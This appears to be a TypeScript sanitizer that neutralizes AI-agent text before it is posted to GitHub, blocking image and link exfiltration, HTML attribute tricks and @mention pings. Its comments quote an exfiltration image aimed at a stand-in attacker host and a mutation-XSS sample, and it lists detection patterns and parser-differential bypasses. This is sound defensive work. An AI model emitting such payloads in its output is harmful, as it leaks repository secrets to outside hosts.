/**
 * The one door every text we post to GitHub goes through (comments, pull
 * request bodies): agent output in it must not be able to send data out or
 * ping people.
 *
 * - Images and links to hosts other than the repository's GitHub host (and
 *   `allowed-domains`) become inline code: GitHub does not render them, so
 *   its image proxy never fetches `![x](https://attacker/?d=SECRET)` and
 *   nobody is one click from leaking. Covered: Markdown images and links,
 *   reference-style ones (their definitions too), `<autolinks>`, `data:` and
 *   other non-http schemes, and raw HTML whose attributes point elsewhere
 *   (`<img src>`, `<a href>`, `<source srcset>`, `<video poster>`, SVG
 *   `<animate>` values, `on*` handlers, ...).
 * - In plain text, whatever GitHub's renderer (cmark-gfm) would link by
 *   itself is decided by what it links, not by what our parser links: any
 *   `scheme://` (it links `ftp://` too), `www.`, `mailto:`, `xmpp:`, e-mail
 *   addresses. The word becomes a code span; the prose around it stays.
 * - `@user` and `@org/team` get a zero-width space after the `@`, as
 *   Dependabot does in the release notes it quotes: the text reads the same
 *   and copies almost the same, but GitHub sees no mention and notifies
 *   nobody. (Backticks would work too, but change how prose looks and do
 *   nothing inside raw HTML, which is not Markdown.) Logins our own template
 *   names on purpose (`keepMentions`, the requester) stay.
 * - Code spans and fenced or indented code are inert on GitHub and stay as
 *   they are, byte for byte.
 *
 * Sound because it is checked, not hoped: the text is parsed with a
 * CommonMark + GFM parser (micromark) and raw HTML with an HTML5 parser
 * (parse5), the unsafe parts are rewritten, and the result is parsed again
 * until nothing unsafe is left. A rewrite that could combine with its
 * surroundings into something new is caught by the next pass; if a few
 * passes do not settle, each top-level block still unsafe is posted as a
 * fenced code block (the whole text, if that does not settle either). The
 * fallback is always code, never an invisible character.
 *
 * Bounded: before any parse the text is cut to the length limit and every
 * construct past a small depth or length is escaped (src/markdown-bounds.ts),
 * so the cost is linear and no input overflows the stack; a parser that
 * throws anyway fails closed (the text as a code block).
 * test/security/posting-corpus.test.ts judges the result as GitHub renders it.
 */
import type { Html, Nodes, Parent, Text } from "mdast";
import { boundMarkdown } from "../markdown-bounds.js";
import { applyEdits, childrenOf, definitionsOf, eachNode, htmlEndsClosed, htmlMayHaveAttributes, parseMarkdown, rangeOf, startTagsAnywhere, type Edit } from "../markdown.js";
import { hostAllowed, parseDomainRules, type DomainRule } from "../shared/domains.js";
import { inlineCode } from "../text.js";
import { COMMENT_LIMIT } from "./comment.js";
import { fenced } from "./summary.js";


export interface PostTextPolicy {
  /** The repository's GitHub (GITHUB_SERVER_URL, e.g. `https://github.com`): links and images there render. */
  serverUrl: string;
  /** `allowed-domains` (settings.run.network): links and images on these hosts render too. */
  allowedDomains?: readonly string[];
  /** Logins our own template mentions on purpose (the requester); everyone else is not pinged. */
  keepMentions?: readonly string[];
}

interface Compiled {
  base: URL;
  repoHost: string;
  rules: DomainRule[];
  keep: Set<string>;
}

const ZWSP = "\u200b";
const MAX_PASSES = 4;
/** The `@` of a mention as a source can spell it: literal, escaped, or a character reference. */
const AT_SIGN = /\\@|&#0*64;?|&#x0*40;?|&commat;|@/gi;
/** A mention in rendered text: `@login` or `@org/team`, not already broken by a zero-width space. */
const MENTION = /@([A-Za-z0-9][A-Za-z0-9-]*)(\/[A-Za-z0-9_-]+)?/g;
/** Attributes whose value is one or more URLs a browser (or GitHub's proxy) would load or follow. */
const URL_ATTRIBUTES = new Set(["src", "href", "attributionsrc", "poster", "background", "action", "formaction", "cite", "data", "longdesc", "lowsrc", "dynsrc", "ping", "usemap", "manifest", "codebase", "xlink:href", "srcset", "imagesrcset"]);
/** Containers whose `html` children are HTML blocks (flow), not inline tags. */
const FLOW_PARENTS = new Set(["root", "blockquote", "listItem", "footnoteDefinition"]);

function compile(p: PostTextPolicy): Compiled {
  const base = new URL(p.serverUrl.endsWith("/") ? p.serverUrl : `${p.serverUrl}/`);
  const rules: DomainRule[] = [];
  // One bad entry must not stop the post; the sandbox reports bad entries where they matter.
  for (const entry of p.allowedDomains ?? []) {
    try {
      rules.push(...parseDomainRules([entry]));
    } catch {
      /* not a host rule: allows nothing here */
    }
  }
  return { base, repoHost: base.host.toLowerCase(), rules, keep: new Set((p.keepMentions ?? []).map((l) => l.toLowerCase())) };
}

/** A link or image target that may render: relative (the repository's host), or http(s) to an allowed host. */
function urlAllowed(raw: string, c: Compiled): boolean {
  const s = raw.trim();
  if (!s) return true;
  // A URL parser reads `\` as `/`; cmark writes it into the href as `%5C`, which makes what came before a user name.
  if (s.includes("\\")) return false;
  if (LONG_REFERENCE.test(s)) return false;
  let u: URL;
  try {
    u = new URL(s, c.base);
  } catch {
    return false;
  }
  if (u.protocol !== "http:" && u.protocol !== "https:") return false;
  if (u.host.toLowerCase() === c.repoHost) return true;
  const port = u.port ? Number(u.port) : u.protocol === "https:" ? 443 : 80;
  return hostAllowed(c.rules, u.hostname, port);
}

/**
 * A numeric character reference cmark (0.29: up to 8 digits) decodes and micromark (0.31: up to 7
 * decimal or 6 hex digits) leaves as text: what the door checks as `&#00000058;` renders as `:`.
 */
const LONG_REFERENCE = /&#(?:[0-9]{8}|[xX][0-9a-fA-F]{7,8});/;

/** `srcset="a.png 1x, https://x/b.png 2x"`: every candidate URL. */
function srcsetUrls(value: string): string[] {
  return value
    .split(",")
    .map((c) => c.trim().split(/\s+/)[0] ?? "")
    .filter(Boolean);
}

/** SVG animation attributes whose values a browser assigns to the attribute `attributeName` names. */
const ANIMATION_VALUES = new Set(["values", "from", "to", "by"]);
/** Attributes that are unsafe whatever they say: script, or a whole document. */
const ALWAYS_UNSAFE = /^(?:on|srcdoc$|http-equiv$)/;
/** `scheme:rest` anywhere in a value (`0;url=ftp:x`, `javascript:`), `//host`, or a CSS function that loads. */
const SCHEME_IN_VALUE = /[a-z][a-z0-9+.-]*:[^\s"'<>;,)]+|\/\/[^\s"'<>;,)]+/gi;
const CSS_LOADS = /url\s*\(|image(?:-set)?\s*\(|@import|expression\s*\(|\\/i;

function attributeUnsafe(name: string, value: string, c: Compiled): boolean {
  const n = name.toLowerCase();
  if (ALWAYS_UNSAFE.test(n)) return true;
  if (n === "srcset" || n === "imagesrcset") return srcsetUrls(value).some((u) => !urlAllowed(u, c));
  if (URL_ATTRIBUTES.has(n) || n.endsWith(":href")) return !urlAllowed(value, c);
  // `<animate attributeName="href">` writes its values into a link; `values="a;b"` lists several.
  if (n === "attributename") return URL_ATTRIBUTES.has(value.trim().toLowerCase()) || /href/i.test(value);
  // They write into any attribute, CSS ones too (`<set attributeName="mask" to="url(http:…)">`).
  if (ANIMATION_VALUES.has(n)) return CSS_LOADS.test(value) || value.split(";").some((v) => /[:/\\]/.test(v) && !urlAllowed(v, c));
  if (n === "style") return CSS_LOADS.test(value);
  // Any other attribute may be CSS too (SVG's `fill`, `mask`, `cursor` take `url(…)`, with CSS escapes)
  // or smuggle a URL (`content="0;url=//x"`; a URL parser drops tabs and newlines, `/\\host` is `//host`).
  if (CSS_LOADS.test(value)) return true;
  return [...value.replace(/[\t\n\r]/g, "").matchAll(SCHEME_IN_VALUE)].some((m) => !urlAllowed(m[0], c));
}

/**
 * Any start tag any parser could read here (markdown.ts `startTagsAnywhere`) with an attribute that
 * loads or links elsewhere; a tag that never closes counts as unsafe. Tag names a fragment parse
 * ignores but a page's parser merges into its own `<html>` or `<body>` get no exception.
 */
function anyTagUnsafe(html: string, c: Compiled): boolean {
  if (RAW_TEXT_OPENER.test(html)) return true;
  if (!htmlMayHaveAttributes(html)) return false;
  const tags = startTagsAnywhere(html);
  return tags === undefined || tags.some((t) => t.attrs.some((a) => attributeUnsafe(a.name, a.value, c)));
}

/**
 * A start tag of an element whose text is CSS, script or a document (GFM's tagfilter names). tagfilter
 * escapes `<style>` and `<style >` but not `<style/x>`, which a browser reads as a style element whose
 * `url()`s load; none of them is checked inside, so none is posted as HTML.
 */
const RAW_TEXT_OPENER = /<(?:style|script|title|textarea|xmp|iframe|noembed|noframes|plaintext)(?![a-z0-9])/i;

/**
 * Raw HTML that GitHub's renderer (cmark-gfm, CommonMark 0.29) does not read as raw HTML where our
 * parser (micromark, CommonMark 0.31) does, so the Markdown inside it renders there: a comment with
 * `--` inside, or one that ends in `-`, or is `<!-->`, `<!--->` (0.29: no `--` in a comment); a
 * declaration whose name is not upper case or not followed by whitespace (`<!x …>`, `<!A![x](…)>`);
 * and blocks that start at `<textarea` (0.31 block type 1, which a blank line does not end) or
 * `<search` (a newer block tag, 0.29 has none).
 */
function readDifferentlyByGitHub(node: string, flow: boolean): boolean {
  // A block keeps the up to three spaces of indentation before it; the rules are about what follows.
  const value = node.replace(/^[ \t]+/, "");
  if (flow) return /^<![a-z]/.test(value) || /^<\/?(?:textarea|search)(?![a-z0-9])/i.test(value);
  if (/^<![a-z]/i.test(value)) return !DECLARATION_0_29.test(value);
  return value.startsWith("<!--") && !COMMENT_0_29.test(value);
}

/** An inline declaration as CommonMark 0.29 reads one: upper-case letters, then whitespace (`<!DOCTYPE![x](…)>` is text there). */
const DECLARATION_0_29 = /^<![A-Z]+\s[^>]*>$/;

/** An inline comment as CommonMark 0.29 reads one: not `<!-->` or `<!--->`, no `--` inside, not ending in `-`. */
const COMMENT_0_29 = /^<!--(?!-?>)(?:(?!--)[\s\S])*-->$/;

/** Rendered text with a mention in it, or ending in `@` (a login could follow in the next node). */
function needsBreak(rendered: string, c: Compiled): boolean {
  if (rendered.endsWith("@")) return true;
  for (const m of rendered.matchAll(MENTION)) {
    if (m[2] || !c.keep.has(m[1]!.toLowerCase())) return true;
  }
  return false;
}

/**
 * Zero-width spaces after every `@` of `source` that a login could follow
 * (offsets relative to `source`). A kept login stays as written.
 */
function breakMentions(source: string, c: Compiled): number[] {
  const at: number[] = [];
  for (const m of source.matchAll(AT_SIGN)) {
    const after = m.index + m[0].length;
    const next = source[after];
    if (next === ZWSP || (next !== undefined && /\s/.test(next))) continue;
    const kept = /^([A-Za-z0-9][A-Za-z0-9-]*)(?![A-Za-z0-9/-])/.exec(source.slice(after));
    if (m[0] === "@" && kept && c.keep.has(kept[1]!.toLowerCase())) continue;
    at.push(after);
  }
  return at;
}

interface Scan {
  edits: Edit[];
  /** Where something unsafe is that no edit could fix (NaN: nowhere known); that part falls back to a code block. */
  stuck: number[];
}

/** URLs written anywhere in raw HTML: `scheme://host`, `//host`, `www.host`, `data:` (not those a zero-width space already broke). */
const URL_IN_TEXT = /(?:[a-z][a-z0-9+.-]*:)?\/\/(?!\u200b)[^\s"'()<>,`\\]+|\bwww\.(?!\u200b)[^\s"'()<>,`\\]+|\bdata:/gi;
/**
 * What GitHub's renderer (cmark-gfm) links in plain text, and more: any
 * `scheme://` (it links `http`, `https` and `ftp`), `www.`, `mailto:` and
 * `xmpp:`, an e-mail address. Our parser links fewer, so this decides.
 */
const LINKABLE_TEXT = /[a-z][a-z0-9+.-]*:\/\/|www\.|(?:mailto|xmpp):|[\w.+-]@[\w-]+\.[a-z0-9]/i;

function textHasOutsideUrl(text: string, c: Compiled): boolean {
  for (const m of text.matchAll(URL_IN_TEXT)) {
    const url = m[0].toLowerCase().startsWith("www.") ? `https://${m[0]}` : m[0];
    if (!urlAllowed(url, c)) return true;
  }
  return false;
}

/**
 * An event handler attribute anywhere in raw HTML, as text: parsers disagree
 * on where `<noscript>`, `<style>` or foreign content ends (mutation XSS:
 * `<noscript><!-- </noscript><img src=x onerror=…>`), so no tree is asked.
 */
const EVENT_HANDLER = /(?:^|[\s"'/])on[a-z]+\s*=/i;

/**
 * Raw HTML. An element that loads or links elsewhere, or an outside URL
 * anywhere in it (a comment or an attribute GitHub's renderer might read
 * differently from ours), or a tag, comment or raw-text element left open at
 * its end, makes the whole node inline code: inside an HTML block a
 * backslash or a code span would still be HTML. Mentions in an HTML block
 * are broken where they are.
 */
function scanHtml(node: Html, parent: Parent | undefined, source: string, c: Compiled, out: Scan): void {
  const r = rangeOf(node);
  if (!r) {
    out.stuck.push(NaN);
    return;
  }
  // Left open, it would take the next block's text (a comment's, say) as its attributes.
  const flow = parent !== undefined && FLOW_PARENTS.has(parent.type);
  const unsafe =
    readDifferentlyByGitHub(node.value, flow) || textHasOutsideUrl(node.value, c) || EVENT_HANDLER.test(node.value) || !htmlEndsClosed(node.value) || anyTagUnsafe(node.value, c);
  const raw = source.slice(r.start, r.end);
  const mentions = !unsafe && raw === node.value && flow ? breakMentions(raw, c) : undefined;
  if (mentions) {
    for (const i of mentions) out.edits.push({ start: r.start + i, end: r.start + i, text: ZWSP });
    return;
  }
  // Not rewritten in place (inside a quote or a list, or inline): any `@` a login could follow, in any spelling, makes it code.
  if (unsafe || needsBreak(node.value, c) || breakMentions(node.value, c).length > 0) out.edits.push({ ...r, text: inlineCode(node.value) });
}

/** Offsets of `ch` in `source` not already escaped by a backslash. */
function unescaped(source: string, ch: RegExp): number[] {
  const at: number[] = [];
  for (const m of source.matchAll(ch)) {
    let slashes = 0;
    while (source[m.index - 1 - slashes] === "\\") slashes++;
    if (slashes % 2 === 0) at.push(m.index);
  }
  return at;
}

/**
 * A code span that pairs with nothing else in `source`: its fence is a run
 * of backticks no other run in the text has, so an unmatched backtick
 * nearby cannot take one of its ends.
 */
function spanFence(source: string): string {
  const used = new Set([...source.matchAll(/`+/g)].map((m) => m[0].length));
  let n = 1;
  while (used.has(n)) n++;
  return "`".repeat(n);
}

/** Each linkable thing in text, with the URL it would link to (`undefined`: never one we allow). */
const LINKABLE_ALL = /[a-z][a-z0-9+.-]*:\/\/[^\s<>"'`]*|www\.[^\s<>"'`]*|(?:mailto|xmpp):|[\w.+-]@[\w-]+\.[a-z0-9]/gi;

function outsideLinkable(text: string, c: Compiled): boolean {
  for (const m of text.matchAll(LINKABLE_ALL)) {
    const s = m[0];
    if (/^www\./i.test(s) ? !urlAllowed(`https://${s}`, c) : !s.includes("//") || !urlAllowed(s, c)) return true;
  }
  return false;
}

/** Whitespace-free runs of a text node's source that could spell an outside link (`&#46;` and `\.` included). */
function linkableRuns(slice: string, c: Compiled): { start: number; end: number }[] {
  const runs: { start: number; end: number }[] = [];
  for (const m of slice.matchAll(/\S+/g)) {
    if (outsideLinkable(m[0], c) || /[&\\]/.test(m[0])) runs.push({ start: m.index, end: m.index + m[0].length });
  }
  return runs;
}

/**
 * Plain text, as our parser sees it. Mentions are broken. Whatever GitHub's
 * renderer would link in it (a bare `ftp://`, `www.`, an e-mail address)
 * becomes a code span: not an invisible character, which a URL parser drops.
 * Because GitHub's parser (cmark-gfm) does not agree with ours on every
 * corner (it reads `<img src=//x/y>` as HTML, ours as text), text that
 * another parser could read as a tag or a link is escaped, which renders
 * the same for both.
 */
function scanText(node: Text, source: string, fence: string, c: Compiled, out: Scan, o: { backticks?: boolean } = {}): void {
  const r = rangeOf(node);
  const v = node.value;
  // Already escaped (`\<`, `&lt;`) is fine: only literal characters of the source are escaped below.
  const tagLike = /<[A-Za-z!/?]/.test(v);
  // A backtick our parser left as text. cmark-gfm's search for a closing run caches positions, and after
  // a run that closes nothing it pairs no later span but the first: a span we skip as code would be
  // live Markdown there. Escaped, no run is left open.
  const ticks = (o.backticks ?? true) && v.includes("`");
  if (LONG_REFERENCE.test(v)) out.stuck.push(r?.start ?? NaN);
  const linkLike = /\]\s*[([:]/.test(v);
  const mention = needsBreak(v, c);
  const linkable = LINKABLE_TEXT.test(v) && outsideLinkable(v, c);
  if (!tagLike && !linkLike && !mention && !linkable && !ticks) return;
  if (!r) return void out.stuck.push(NaN);
  const slice = source.slice(r.start, r.end);
  const runs = linkable ? linkableRuns(slice, c) : [];
  if (linkable && !runs.length) out.stuck.push(r.start);
  const inRun = (i: number) => runs.some((run) => i >= run.start && i < run.end);
  const insert = (i: number, text: string) => void (inRun(i) || out.edits.push({ start: r.start + i, end: r.start + i, text }));
  for (const run of runs) {
    const text = slice.slice(run.start, run.end);
    const pad = text.startsWith("`") || text.endsWith("`") ? " " : "";
    out.edits.push({ start: r.start + run.start, end: r.start + run.end, text: `${fence}${pad}${text}${pad}${fence}` });
  }
  if (tagLike) for (const i of unescaped(slice, /<(?=[A-Za-z!/?])/g)) insert(i, "\\");
  // The `]` too: it is in the same node as what follows it, where the `[` may not be (`![*a*](…( )`, which
  // only cmark reads as an image).
  if (linkLike) for (const i of unescaped(slice, /\[|\](?=\s*[([:])/g)) insert(i, "\\");
  if (ticks) for (const i of unescaped(slice, /`/g)) insert(i, "\\");
  if (mention) {
    const at = breakMentions(slice, c).filter((i) => !inRun(i));
    if (!at.length && !runs.length) out.stuck.push(r.start);
    for (const i of at) insert(i, ZWSP);
  }
}

/** What in `source` would render as an outside image or link, or ping someone. */
function scan(source: string, c: Compiled): Scan {
  const root = parseMarkdown(source, { exact: true });
  const defs = definitionsOf(root);
  const fence = spanFence(source);
  const out: Scan = { edits: [], stuck: [] };
  const codeBlocks: { start: number; end: number }[] = [];
  const asCode = (n: Nodes): void => {
    const r = rangeOf(n);
    if (r) out.edits.push({ ...r, text: inlineCode(source.slice(r.start, r.end)) });
    else out.stuck.push(NaN);
  };
  // Without recursion: how deep the tree goes is the input's to choose.
  const stack: [Nodes, Parent | undefined][] = [[root, undefined]];
  while (stack.length) {
    const [n, parent] = stack.pop()!;
    switch (n.type) {
      case "code": {
        const r = rangeOf(n);
        if (r) codeBlocks.push(r);
        continue;
      }
      case "inlineCode":
        continue;
      case "image":
      case "link":
      case "definition": {
        // An autolink's URL is as written, and GitHub's renderer decodes references in it (`<https:&#47;&#47;host>`).
        const autolink = n.type === "link" && source[rangeOf(n)?.start ?? -1] === "<";
        const allowed =
          urlAllowed(n.url, c) &&
          !(autolink && n.url.includes("&")) &&
          !destinationReadDifferently(n.url, n.title) &&
          !(n.type === "image" && altHasBacktick(n.alt)) &&
          !(n.type === "definition" && labelReadDifferently(n.label));
        if (!allowed) asCode(n);
        if (n.type !== "link" || !allowed) continue;
        // An autolink's text is its URL: a backslash put into it would change where it goes.
        if (autolink) {
          for (const child of childrenOf(n)) if (child.type === "text") scanText(child, source, fence, c, out, { backticks: false });
          continue;
        }
        break;
      }
      case "imageReference":
      case "linkReference": {
        const d = defs.get(n.identifier);
        const allowed =
          d !== undefined && urlAllowed(d.url, c) && !destinationReadDifferently(d.url, d.title) && !labelReadDifferently(n.label) && !(n.type === "imageReference" && altHasBacktick(n.alt));
        if (!allowed) asCode(n);
        if (!allowed || n.type === "imageReference") continue;
        break;
      }
      case "footnoteReference":
        if (labelReadDifferently(n.label)) asCode(n);
        continue;
      case "footnoteDefinition":
        if (labelReadDifferently(n.label)) out.stuck.push(rangeOf(n)?.start ?? NaN);
        break;
      case "html":
        scanHtml(n, parent, source, c, out);
        continue;
      case "text":
        scanText(n, source, fence, c, out);
        continue;
    }
    for (const child of childrenOf(n)) stack.push([child, n as Parent]);
  }
  // `\\|` in a table row: cmark-gfm takes the pipe as escaped and does not split the cell there, our
  // parser does; the rows then pair different code spans. Outside code blocks, that block goes in one.
  const outsideCodeBlocks = (i: number) => !codeBlocks.some((r) => i >= r.start && i < r.end);
  for (const m of source.matchAll(/\\\\\|/g)) if (outsideCodeBlocks(m.index)) out.stuck.push(m.index);
  // cmark takes no code span fence past 80 backticks (a longer run is text there, and what it
  // holds renders), and a span around 80 would need one: that block goes in a code block.
  for (const m of source.matchAll(/`{80,}/g)) if (outsideCodeBlocks(m.index)) out.stuck.push(m.index);
  // A definition on the line above a table: cmark-gfm's table reads those lines as a paragraph, so the
  // definition's destination and title render as Markdown there.
  eachNode(root, (n) => {
    const kids = childrenOf(n);
    for (let i = 0; i + 1 < kids.length; i++) {
      const [a, b] = [kids[i]!, kids[i + 1]!];
      if (a.type === "definition" && b.type === "table" && (b.position?.start.line ?? Infinity) <= (a.position?.end.line ?? -Infinity) + 1) out.stuck.push(rangeOf(a)?.start ?? NaN);
    }
  });
  return out;
}

/**
 * A reference or footnote label the two parsers may match or bound differently: micromark folds case
 * with toLowerCase().toUpperCase() (`ı` matches `I`), cmark does not; cmark counts its 999-character limit
 * in bytes (an ASCII label is as long for both: only non-ASCII can differ). Or one whose text would be
 * Markdown, HTML or a mention once it is not a label: a backtick (cmark reads it as a code span's opener
 * before it knows the bracket is a label), `<`, `@`.
 */
function labelReadDifferently(label: string | null | undefined): boolean {
  return label != null && /[^\x20-\x7e]|[`<@]/.test(label);
}

/**
 * A destination or title cmark (0.29) may refuse where micromark reads a link, so the whole link,
 * title and all, is Markdown and HTML there: a title with a `(` in it (`(a(<img …>)`), or a destination
 * nested past cmark's 32 parentheses (micromark sets no limit in definitions).
 */
function destinationReadDifferently(url: string, title: string | null | undefined): boolean {
  if (title?.includes("(") || LONG_REFERENCE.test(url)) return true;
  let depth = 0;
  for (const ch of url) {
    if (ch === "(" && ++depth > 31) return true;
    if (ch === ")") depth = Math.max(0, depth - 1);
  }
  return false;
}

/** An image's alt text with a backtick: cmark reads it as a code span's opener inside the brackets. */
function altHasBacktick(alt: string | null | undefined): boolean {
  return alt?.includes("`") ?? false;
}

/**
 * The top-level blocks of `text` that hold something unsafe no rewrite
 * fixed, each as a fenced code block; the rest stays as it is. Undefined
 * when that does not leave the text clean either.
 */
function fenceUnsettled(text: string, c: Compiled): string | undefined {
  const { edits, stuck } = scan(text, c);
  const at = [...edits.map((e) => e.start), ...stuck];
  if (at.some((i) => Number.isNaN(i))) return undefined;
  const blocks = parseMarkdown(text, { exact: true }).children.map(rangeOf);
  const fencedEdits: Edit[] = [];
  for (const r of blocks) {
    if (!r || !at.some((i) => i >= r.start && i < Math.max(r.end, r.start + 1))) continue;
    fencedEdits.push({ ...r, text: fenced(text.slice(r.start, r.end), "text") });
  }
  if (!fencedEdits.length || blocks.some((r) => !r)) return undefined;
  const out = applyEdits(text, fencedEdits);
  const check = scan(out, c);
  return check.edits.length || check.stuck.length ? undefined : out;
}

function neutralizeOnce(markdown: string, c: Compiled): string {
  let text = markdown;
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    const { edits, stuck } = scan(text, c);
    if (stuck.length) break;
    if (!edits.length) return text;
    text = applyEdits(text, edits);
  }
  // Did not settle: the parts that did not go in code blocks, where nothing renders, links, loads or pings.
  return fenceUnsettled(text, c) ?? fenced(markdown, "text");
}

/**
 * `markdown` as it may be posted: outside images and links shown as code,
 * mentions broken, code untouched; at most `maxLength` characters (the
 * input is shortened and neutralized again when the rewriting made it longer).
 */
export function neutralizeForGitHub(markdown: string, policy: PostTextPolicy, maxLength = COMMENT_LIMIT - 500): string {
  try {
    // The rewrite only lengthens the text: what is past the limit now would be cut anyway.
    const input = markdown.length > maxLength ? `${markdown.slice(0, maxLength - 100)}\n\n… (truncated)` : markdown;
    return neutralizeBounded(boundMarkdown(input), compile(policy), maxLength);
  } catch {
    // A parser that gives up (it should not: the input is bounded) fails closed.
    return fenced(markdown.slice(0, maxLength - 100), "text");
  }
}

function neutralizeBounded(markdown: string, c: Compiled, maxLength: number): string {
  let input = markdown;
  for (let attempt = 0; attempt < 3; attempt++) {
    const out = neutralizeOnce(input, c);
    if (out.length <= maxLength) return out;
    input = `${input.slice(0, Math.max(0, input.length - (out.length - maxLength) - 1_000))}\n\n… (truncated)`;
  }
  return fenced(markdown.slice(0, maxLength - 100), "text");
}
